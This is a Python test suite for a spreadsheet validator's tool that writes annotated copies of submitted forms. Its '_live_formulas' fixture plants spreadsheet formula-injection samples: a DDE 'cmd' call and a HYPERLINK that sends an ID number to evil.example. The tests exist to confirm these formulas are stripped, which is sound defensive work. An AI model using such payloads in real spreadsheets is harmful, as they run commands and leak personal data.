from __future__ import annotations

from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from typer.testing import CliRunner

import zjcredit.documents.common  # noqa: F401  (registers the rules used below)
from zjcredit.cli import app
from zjcredit.errors import UsageError
from zjcredit.report import annotate as annotate_mod
from zjcredit.report import findings_sheet
from zjcredit.report.annotate import annotate, parse_cell, unique_names
from zjcredit.report.findings import FileResult, Report, Severity, make

runner = CliRunner()
RED, YELLOW, BLUE = "FFC7CE", "FFEB9C", "DDEBF7"


def _fill(cell):
    return cell.fill.fgColor.rgb[-6:] if cell.fill.fill_type == "solid" else None


def _rows(ws):
    return [[c.value for c in row] for row in ws.iter_rows()]


def _form(path: Path) -> Path:
    wb = Workbook()
    ws = wb.active
    ws.title = "申报表"
    ws["A2"], ws["B2"], ws["C2"], ws["D2"] = "申报单位", "某某成校", "机构代码", None
    ws["A3"], ws["B3"] = "地址", "火星市"
    ws.merge_cells("B3:D3")
    ws["A4"], ws["B4"] = "联系电话", "=1+2"
    wb.save(path)
    return path


def _report(path: Path, findings, kind="annex2", records=1) -> Report:
    return Report("validate", [FileResult(str(path), kind, records, list(findings))])


def test_xlsx_copy_fills_comments_and_list(tmp_path):
    src = _form(tmp_path / "form.xlsx")
    before = src.read_bytes()
    p = str(src)
    report = _report(
        src,
        [
            make("required", p, sheet="申报表", cell="D2", row=2, field="机构代码"),
            make("no-records", p, sheet="申报表", cell="B2", row=2, field="申报单位", value="某某成校"),
            make("required", p, sheet="申报表", cell="B2", row=2, field="申报单位", severity=Severity.INFO),
            make("excel-error", p, sheet="申报表", cell="C3", row=3, field="地址", value="#REF!"),  # inside B3:D3
            make("required", p, sheet="申报表", cell="B3", row=3, field="地址", severity=Severity.WARNING),
            make("no-records", p),  # file-level: only in the list
        ],
    )
    written = annotate(report, tmp_path / "out")
    assert written == [tmp_path / "out" / "form.checked.xlsx"]
    assert src.read_bytes() == before

    wb = load_workbook(written[0])
    assert wb.sheetnames == ["申报表", "问题清单"]
    ws = wb["申报表"]
    assert _fill(ws["D2"]) == RED
    assert ws["D2"].comment.text == "错误 [required] “机构代码”未填写，这是必填项。"
    # Worst severity decides the fill; the comment holds every message, most severe first.
    assert _fill(ws["B2"]) == YELLOW
    assert ws["B2"].comment.text.splitlines() == ["警告 [no-records] 表中没有任何数据行。", "提示 [required] “申报单位”未填写，这是必填项。"]
    # A finding inside a merged range marks the range's top-left cell.
    assert _fill(ws["B3"]) == RED
    assert [line.split()[1] for line in ws["B3"].comment.text.splitlines()] == ["[excel-error]", "[required]"]
    assert ws["A2"].comment is None and _fill(ws["A2"]) is None
    # The input's own text is untouched in the copy; its formula is gone, its saved value (none) with it.
    assert ws["B2"].value == "某某成校" and ws["B4"].value is None and _fill(ws["B4"]) == YELLOW
    # Beside each flagged row, a short note that prints: the cells and their rules' titles.
    assert ws["E1"].value == "问题说明"
    assert ws["E2"].value == "D2 必填项为空；B2 没有数据、必填项为空"
    assert ws["E3"].value == "B3 Excel 错误值、必填项为空"

    lst = wb["问题清单"]
    rows = _rows(lst)
    assert rows[0][0].startswith("form.xlsx：共 6 个问题（错误 2，警告 3，提示 1）。") and "1 个公式已移除" in rows[0][0]
    assert rows[1] == ["级别", "位置", "问题", "说明", "字段", "读到的值", "规则"]
    assert [r[0] for r in rows[2:]] == ["错误", "错误", "警告", "警告", "警告", "提示"]
    assert rows[2] == ["错误", "申报表!D2", "必填项为空", "“机构代码”未填写，这是必填项。", "机构代码", None, "required"]
    assert rows[3][1] == "申报表!C3" and rows[3][5] == "#REF!" and lst["F4"].data_type == "s"
    assert rows[6][1] == "（整个文件）" and rows[6][6] == "no-records"
    assert lst.freeze_panes == "A3"
    assert lst.auto_filter.ref == "A2:G8"
    assert lst["B3"].hyperlink.location == "'申报表'!D2"
    assert [_fill(lst[f"A{r}"]) for r in range(3, 9)] == [RED, RED, YELLOW, YELLOW, YELLOW, BLUE]


def test_csv_copy_keeps_formula_looking_text_as_text(tmp_path):
    src = tmp_path / "学员 名单.csv"
    src.write_text('姓名,身份证号\n张三,"=HYPERLINK(""http://x"",""y"")"\n李四,-1+2\n', encoding="gb18030")
    p = str(src)
    report = _report(
        src,
        [make("required", p, cell="B2", row=2, field="身份证号", value='=HYPERLINK("http://x","y")')],
        kind="outcomes",
        records=2,
    )
    (out,) = annotate(report, tmp_path / "out", lang="en")
    assert out.name == "学员 名单.checked.xlsx"
    wb = load_workbook(out)
    assert wb.sheetnames == ["学员 名单", "Findings"]
    ws = wb["学员 名单"]
    assert [r[:2] for r in _rows(ws)] == [["姓名", "身份证号"], ["张三", '=HYPERLINK("http://x","y")'], ["李四", "-1+2"]]
    assert ws["B2"].data_type == "s" and ws["B3"].data_type == "s"
    assert _fill(ws["B2"]) == RED
    assert ws["B2"].comment.text == "error [required] '身份证号' is empty; it is required."
    lst = wb["Findings"]
    assert _rows(lst)[1][0] == "Severity"
    assert lst["B3"].value == "学员 名单!B2" and lst["F3"].value == '=HYPERLINK("http://x","y")'
    assert lst["F3"].data_type == "s"
    # The raw XML holds no formula at all.
    import zipfile

    with zipfile.ZipFile(out) as zf:
        assert all(b"<f>" not in zf.read(n) for n in zf.namelist() if n.startswith("xl/worksheets/"))


def test_xls_input_is_rebuilt_from_its_values(tmp_path):
    xlwt = pytest.importorskip("xlwt")
    book = xlwt.Workbook()
    sheet = book.add_sheet("汇总")
    sheet.write(0, 0, "序号")
    sheet.write(0, 1, "机构代码")
    sheet.write(1, 0, 1)
    sheet.write(1, 1, "=A1")
    src = tmp_path / "old.xls"
    book.save(str(src))
    report = _report(src, [make("required", str(src), sheet="汇总", cell="B2", row=2, field="机构代码", severity=Severity.WARNING)], kind="annex1")
    (out,) = annotate(report, tmp_path)
    ws = load_workbook(out)["汇总"]
    assert ws["A2"].value == 1 and ws["B2"].value == "=A1" and ws["B2"].data_type == "s"
    assert _fill(ws["B2"]) == YELLOW


def test_refuses_to_overwrite_without_force_and_writes_nothing(tmp_path):
    a = _form(tmp_path / "a.xlsx")
    b = _form(tmp_path / "b.xlsx")
    report = Report("validate", [FileResult(str(a), "annex2"), FileResult(str(b), "annex2")])
    out = tmp_path / "out"
    out.mkdir()
    (out / "b.checked.xlsx").write_bytes(b"keep")
    with pytest.raises(UsageError) as exc:
        annotate(report, out)
    assert "b.checked.xlsx" in exc.value.zh and "--force" in exc.value.zh
    assert not (out / "a.checked.xlsx").exists()  # checked before anything was written
    assert (out / "b.checked.xlsx").read_bytes() == b"keep"
    written = annotate(report, out, force=True)
    assert [p.name for p in written] == ["a.checked.xlsx", "b.checked.xlsx"]
    assert load_workbook(out / "b.checked.xlsx").sheetnames == ["申报表", "问题清单"]


def test_unreadable_inputs_are_skipped(tmp_path):
    bad = tmp_path / "bad.xlsx"
    bad.write_bytes(b"not a zip")
    report = Report("validate", [FileResult(str(bad), None, 0, [make("unreadable", str(bad), reason="坏", reason_en="bad")])])
    assert annotate(report, tmp_path / "out") == []
    assert not (tmp_path / "out").exists()


def test_same_stem_inputs_get_distinct_names(tmp_path):
    assert unique_names(["西湖区/申报表.xlsx", "上城区/申报表.xlsx", "其他.csv"]) == ["西湖区_申报表", "上城区_申报表", "其他"]
    assert unique_names(["d/a.xlsx", "d/a.csv"]) == ["d_a_xlsx", "d_a_csv"]
    assert unique_names(["A.xlsx", "a.xlsx"]) == ["A_xlsx", "a_xlsx-2"]
    assert unique_names(["x/a.xlsx", "x/a.xlsx"]) == ["x_a_xlsx", "x_a_xlsx-2"]
    for d in ("西湖区", "上城区"):
        (tmp_path / d).mkdir()
        _form(tmp_path / d / "申报表.xlsx")
    report = Report("validate", [FileResult(str(tmp_path / d / "申报表.xlsx"), "annex2") for d in ("西湖区", "上城区")])
    names = sorted(p.name for p in annotate(report, tmp_path / "out"))
    assert len(names) == 2 and all(n.endswith("_申报表.checked.xlsx") for n in names)


def test_large_input_gets_only_the_findings_list(tmp_path, monkeypatch):
    monkeypatch.setattr(annotate_mod, "LARGE_ROWS", 5)
    src = tmp_path / "big.xlsx"
    wb = Workbook()
    for i in range(1, 11):
        wb.active.cell(row=i, column=1, value=i)
    wb.save(src)
    report = _report(src, [make("required", str(src), sheet="Sheet", cell="A3", row=3, field="姓名")], kind="outcomes", records=9)
    (out,) = annotate(report, tmp_path / "out")
    wb = load_workbook(out)
    assert wb.sheetnames == ["问题清单"]
    rows = _rows(wb["问题清单"])
    assert "未复制原表" in rows[0][0]
    assert rows[1][0] == "级别" and rows[2][1] == "Sheet!A3"
    assert wb["问题清单"].freeze_panes == "A3"
    assert wb["问题清单"].print_title_rows == "$2:$2"

    # Judged from the file itself too: the <dimension> tag, or the row elements when it has none.
    assert annotate_mod._is_large(src, FileResult(str(src), "annex1", 0))
    streamed = Workbook(write_only=True)
    sheet = streamed.create_sheet("s")
    for i in range(10):
        sheet.append([i])
    streamed.save(tmp_path / "nodim.xlsx")
    assert annotate_mod._is_large(tmp_path / "nodim.xlsx", FileResult("nodim.xlsx", "annex1", 0))
    assert not annotate_mod._is_large(_form(tmp_path / "small.xlsx"), FileResult("small.xlsx", "annex2", 0))

    csv_src = tmp_path / "big.csv"
    csv_src.write_text("姓名\n" + "张三\n" * 7, encoding="utf-8")
    report = _report(csv_src, [], kind="outcomes", records=0)
    (out,) = annotate(report, tmp_path / "out2", lang="en")
    assert load_workbook(out).sheetnames == ["Findings"]


def test_findings_list_stops_at_its_limit(tmp_path, monkeypatch):
    monkeypatch.setattr(findings_sheet, "LIST_LIMIT", 3)
    monkeypatch.setattr(annotate_mod, "COMMENT_LIMIT", 2)
    src = _form(tmp_path / "f.xlsx")
    fs = [make("required", str(src), sheet="申报表", cell=f"E{r}", row=r, field="x") for r in range(1, 6)]
    (out,) = annotate(_report(src, fs), tmp_path / "out")
    wb = load_workbook(out)
    rows = _rows(wb["问题清单"])
    assert len(rows) == 6 and "另有 2 条问题" in rows[5][0]
    ws = wb["申报表"]
    assert all(_fill(ws[f"E{r}"]) == RED for r in range(1, 6))  # every cell filled...
    assert [ws[f"E{r}"].comment is not None for r in range(1, 6)] == [True, True, False, False, False]  # ...comments capped


def test_parse_cell():
    assert parse_cell("C7") == (7, 3)
    assert parse_cell("aa10") == (10, 27)
    assert parse_cell("A0") is None and parse_cell("A1:B2") is None and parse_cell("XFE1") is None


def test_validate_annotate_through_the_cli(tmp_path):
    src = tmp_path / "x.csv"
    src.write_text("a,b\n1,2\n", encoding="utf-8")
    out = tmp_path / "marked"
    result = runner.invoke(app, ["validate", str(src), "--annotate", str(out), "--format", "json"])
    assert result.exit_code == 1  # kind-unknown is an error
    ws = load_workbook(out / "x.checked.xlsx")["问题清单"]
    assert ws["G3"].value == "kind-unknown" and ws["B3"].value == "（整个文件）"
    again = runner.invoke(app, ["validate", str(src), "--annotate", str(out)])
    assert again.exit_code == 2 and "x.checked.xlsx" in again.output
    assert runner.invoke(app, ["validate", str(src), "--annotate", str(out), "--force"]).exit_code == 1


def test_input_that_no_longer_reads_gets_a_list_with_the_reason(tmp_path):
    src = tmp_path / "gone.csv"
    src.write_bytes(b"")  # emptied since it was checked
    report = _report(src, [make("no-records", str(src))], kind="outcomes")
    (out,) = annotate(report, tmp_path / "out")
    rows = _rows(load_workbook(out)["问题清单"])
    assert "0 字节" in rows[0][0] and rows[2][6] == "no-records"


# Issue 10 (3): overlapping merged ranges ------------------------------------------------------------------


def _overlapping_form(path: Path) -> Path:
    """A form whose merged ranges overlap (B2:C3 and C3:D4), as some hand-made sheets have."""
    import zipfile

    wb = Workbook()
    ws = wb.active
    ws.title = "申报表"
    ws["A1"], ws["B1"] = "申报单位", "某某成校"
    ws["A2"], ws["B2"] = "地址", "火星市"
    ws["A3"], ws["A4"] = "联系电话", "机构代码"
    ws["C3"] = "被覆盖的格子"
    wb.save(path)
    with zipfile.ZipFile(path) as zin:
        parts = {n: zin.read(n) for n in zin.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    merges = '<mergeCells count="2"><mergeCell ref="B2:C3"/><mergeCell ref="C3:D4"/></mergeCells>'
    sheet = sheet.replace("</sheetData>", "</sheetData>" + merges, 1) if "<mergeCells" not in sheet else sheet
    parts["xl/worksheets/sheet1.xml"] = sheet.encode()
    with zipfile.ZipFile(path, "w") as zout:
        for n, data in parts.items():
            zout.writestr(n, data)
    return path


def test_overlapping_merged_ranges_are_marked_not_a_crash(tmp_path):
    src = _overlapping_form(tmp_path / "overlap.xlsx")
    p = str(src)
    findings = [make("required", p, sheet="申报表", cell=c, row=int(c[1:]), field="x") for c in ("C3", "D4", "B2", "C2")]
    (out,) = annotate(_report(src, findings), tmp_path / "out")
    wb = load_workbook(out)
    ws = wb["申报表"]
    merged = {str(r) for r in ws.merged_cells.ranges}
    assert merged == {"B2:C3"}  # the later, overlapping range is dropped in the copy
    assert _fill(ws["B2"]) == RED and ws["B2"].comment is not None
    assert _fill(ws["D4"]) == RED and ws["D4"].comment is not None


def test_overlapping_merged_ranges_through_the_cli(tmp_path):
    src = _overlapping_form(tmp_path / "overlap.xlsx")
    result = runner.invoke(app, ["validate", str(src), "--kind", "annex2", "--annotate", str(tmp_path / "marked"), "--format", "json"])
    assert result.exit_code in (0, 1), result.output
    assert "内部错误" not in result.output and "MergedCell" not in result.output
    assert (tmp_path / "marked" / "overlap.checked.xlsx").exists()


# Issue 10 (10): values only ---------------------------------------------------------------------------------


def _live_formulas(path: Path) -> Path:
    """Formulas an attacker or a careless clerk leaves: a DDE command, a HYPERLINK sending an ID away,
    =1/0, a defined name pointing at another workbook; one formula with a saved value (=1+2 → 3)."""
    import zipfile

    from openpyxl.workbook.defined_name import DefinedName

    wb = Workbook()
    ws = wb.active
    ws.title = "成果"
    ws.append(["姓名", "身份证号", "备注"])
    ws.append(["张三", "330106199001011234", None])
    ws["C2"] = "=cmd|'/c calc'!A0"
    ws["D2"] = '=HYPERLINK("http://evil.example/?id="&B2,"点我")'
    ws["E2"] = "=1/0"
    ws["F2"] = "=1+2"
    wb.defined_names["Leak"] = DefinedName("Leak", attr_text="'[1]Sheet1'!$A$1")
    wb.save(path)
    with zipfile.ZipFile(path) as zin:
        parts = {n: zin.read(n) for n in zin.namelist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    sheet = sheet.replace("<f>1+2</f><v />", "<f>1+2</f><v>3</v>")
    assert "<v>3</v>" in sheet
    parts["xl/worksheets/sheet1.xml"] = sheet.encode()
    with zipfile.ZipFile(path, "w") as zout:
        for n, data in parts.items():
            zout.writestr(n, data)
    return path


def test_annotated_copy_holds_values_only(tmp_path):
    import zipfile

    src = _live_formulas(tmp_path / "成果.xlsx")
    before = src.read_bytes()
    report = _report(src, [make("required", str(src), sheet="成果", cell="A2", row=2, field="姓名", severity=Severity.WARNING)], kind="outcomes")
    (out,) = annotate(report, tmp_path / "out")
    assert src.read_bytes() == before
    with zipfile.ZipFile(out) as zf:
        for name in zf.namelist():
            data = zf.read(name)
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in data and b"<f " not in data, name
            assert b"evil.example" not in data or name.startswith("xl/comments"), name  # only quoted in a note
        assert not any("externalLink" in n for n in zf.namelist())
        workbook = zf.read("xl/workbook.xml").decode()
    assert "Leak" not in workbook
    ws = load_workbook(out)["成果"]
    assert ws["F2"].value == 3  # the value the input saved
    for ref in ("C2", "D2", "E2"):  # none saved: left empty, flagged, and said what it was
        assert ws[ref].value is None and _fill(ws[ref]) == YELLOW
        assert "公式" in ws[ref].comment.text
    summary = load_workbook(out)["问题清单"]["A1"].value
    assert "4 个公式已移除" in summary and "3 个没有保存的计算结果" in summary


def test_annotate_of_live_formulas_through_the_cli(tmp_path):
    src = _live_formulas(tmp_path / "成果.xlsx")
    result = runner.invoke(app, ["validate", str(src), "--kind", "outcomes", "--annotate", str(tmp_path / "m"), "--format", "json", "--lang", "en"])
    assert result.exit_code in (0, 1), result.output
    (out,) = list((tmp_path / "m").iterdir())
    assert "formula(s) were removed" in load_workbook(out)["Findings"]["A1"].value


# Issue 10 (15): copies never overwrite one another ----------------------------------------------------------


def test_two_runs_into_one_folder_do_not_overwrite_each_other(tmp_path, monkeypatch):
    for d in ("西湖区", "上城区"):
        (tmp_path / d).mkdir()
        _form(tmp_path / d / "申报表.xlsx")
    out = tmp_path / "out"
    first = annotate(Report("validate", [FileResult(str(tmp_path / "西湖区" / "申报表.xlsx"), "annex2")]), out)
    assert [p.name for p in first] == ["申报表.checked.xlsx"]
    kept = first[0].read_bytes()
    # A second run whose name was free when it started, but taken by another run while it wrote.
    real = annotate_mod._write_copy

    def slow_copy(fr, tmp, lang, *rest):
        real(fr, tmp, lang, *rest)
        (out / "申报表.checked.xlsx").write_bytes(kept)  # the other run finishes first

    (out / "申报表.checked.xlsx").unlink()
    monkeypatch.setattr(annotate_mod, "_write_copy", slow_copy)
    with pytest.raises(UsageError) as exc:
        annotate(Report("validate", [FileResult(str(tmp_path / "上城区" / "申报表.xlsx"), "annex2")]), out)
    assert "另一次运行" in exc.value.zh and "--force" in exc.value.zh
    assert (out / "申报表.checked.xlsx").read_bytes() == kept
    assert sorted(p.name for p in out.iterdir()) == ["申报表.checked.xlsx"]  # no temporary or staging file left


def test_same_name_in_two_folders_in_one_run_keeps_the_folders(tmp_path):
    for d in ("西湖区", "上城区"):
        (tmp_path / "in" / d).mkdir(parents=True)
        _form(tmp_path / "in" / d / "申报表.xlsx")
    result = runner.invoke(app, ["validate", str(tmp_path / "in"), "--annotate", str(tmp_path / "out"), "--format", "json"])
    assert result.exit_code in (0, 1), result.output
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == ["上城区_申报表.checked.xlsx", "西湖区_申报表.checked.xlsx"]
    assert unique_names(["/a/x/申报表.xlsx", "/a/y/申报表.xlsx", "/b/x/申报表.xlsx"]) == ["a_x_申报表", "a_y_申报表", "b_x_申报表"]


# Issue 14 (6): the marked copy prints usefully ---------------------------------------------------------------


def test_marked_copy_prints_its_findings(tmp_path):
    from zjcredit.report.layout import MIN_PRINTED_SIZE, smallest_printed_size
    from zjcredit.templates import write_template

    src = write_template("annex2", tmp_path / "form.xlsx", force=False)
    p = str(src)
    findings = [
        make("required", p, sheet="申报表", cell="B3", row=3, field="申报单位"),
        make("phone-invalid", p, sheet="申报表", cell="D5", row=5, field="联系电话", value="123"),
    ]
    result = runner.invoke(app, ["validate", str(src), "--annotate", str(tmp_path / "m"), "--format", "json"])
    assert result.exit_code in (0, 1)
    (out,) = annotate(_report(src, findings), tmp_path / "lib")
    wb = load_workbook(out)
    form = wb["申报表"]
    # A short note beside each flagged row, inside what prints (the form had a print area).
    assert form["E3"].value == "B3 必填项为空" and form["E5"].value == "D5 联系电话无效"
    assert form.print_area.split("!")[1].startswith("$A$1:$E$")
    assert form.page_setup.fitToWidth == 1 and form.page_setup.cellComments == "atEnd"
    assert smallest_printed_size(form) >= MIN_PRINTED_SIZE
    lst = wb["问题清单"]
    assert [c.value for c in lst[2]] == ["级别", "位置", "问题", "说明", "字段", "读到的值", "规则"]
    assert [lst["B3"].value, lst["C3"].value] == ["申报表!B3", "必填项为空"]  # the rule's title beside the cell
    assert lst.page_setup.orientation == "landscape" and int(lst.page_setup.paperSize) == 9
    assert lst.print_title_rows == "$2:$2" and lst.sheet_properties.pageSetUpPr.fitToPage
    assert lst["D3"].alignment.wrap_text and smallest_printed_size(lst) >= MIN_PRINTED_SIZE
    assert lst.oddFooter.center.text == "第 &P 页 共 &N 页"


def test_a_ledger_kept_as_a_folder_gets_copies_of_its_parts_not_of_the_folder(tmp_path, monkeypatch):
    import shutil

    here = Path(__file__).resolve().parents[1] / "examples" / "ledgers"
    shutil.copytree(here / "台账", tmp_path / "台账")
    shutil.copy(here / "目录_2019H1.xlsx", tmp_path / "目录.xlsx")
    monkeypatch.chdir(tmp_path)
    out = tmp_path / "副本"
    result = runner.invoke(app, ["ledger", "check", "台账", "--catalog", "目录.xlsx", "--annotate", str(out), "--format", "json"])
    assert result.exit_code == 1, result.output
    names = sorted(p.name for p in out.iterdir())
    folders = [p.name for p in (tmp_path / "台账").iterdir() if p.is_dir()]
    assert folders and not any(name.startswith(folder) for folder in folders for name in names), names
    assert "学员名册.checked.xlsx" in names  # a part of the folder ledger 330106-2019H1-003
    for name in names:  # every copy is a copy of cells, not a note that the input could not be opened
        wb = load_workbook(out / name)
        assert wb.sheetnames != ["问题清单"], name
